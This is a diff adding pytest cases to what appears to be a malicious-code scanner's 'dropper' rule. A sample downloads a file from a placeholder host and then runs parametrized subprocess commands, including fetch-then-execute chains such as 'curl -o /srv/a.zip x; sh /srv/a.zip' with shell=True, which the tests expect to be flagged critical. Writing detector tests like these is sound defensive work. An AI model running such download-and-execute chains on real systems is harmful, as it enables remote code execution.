@@ -295,3 +295,27 @@ def go(loop):
 )
 def test_a_client_that_is_handed_on_has_sent_nothing(does: str, severity: Severity | None) -> None:
     assert worst("stealer", CLIENT.format(does=does)) is severity
+
+
+KEPT = """
+import subprocess, requests
+def get(url):
+    open("/srv/a.zip", "wb").write(requests.get("https://a.example.invalid/a.zip").content)
+    subprocess.run({command})
+"""
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("['curl', '-o', '/srv/a.zip', url]", None),
+        ("['/usr/bin/wget', '-O', '/srv/a.zip', url]", None),
+        ("['sh', '/srv/a.zip']", Severity.CRITICAL),
+        ("['./curl', '/srv/a.zip']", Severity.CRITICAL),
+        ("'curl -o /srv/a.zip x; sh /srv/a.zip', shell=True", Severity.CRITICAL),
+    ],
+)
+def test_a_file_that_is_fetched_once_more_is_not_run(
+    command: str, severity: Severity | None
+) -> None:
+    assert worst("dropper", KEPT.format(command=command)) is severity
